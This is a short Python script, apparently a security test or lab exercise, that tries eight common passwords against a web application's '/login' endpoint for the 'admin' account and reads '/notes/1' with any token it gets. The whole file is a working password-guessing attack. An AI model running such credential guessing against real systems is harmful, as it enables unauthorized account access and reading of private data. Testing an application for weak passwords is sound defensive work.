# Tries common passwords.
from client import ask

for password in ("admin", "123456", "password", "letmein", "qwerty", "secret", "root", "hunter2"):
    status, token = ask("/login", name="admin", password=password)
    print(password, status)
    if status == 200:
        print(*ask("/notes/1", token))
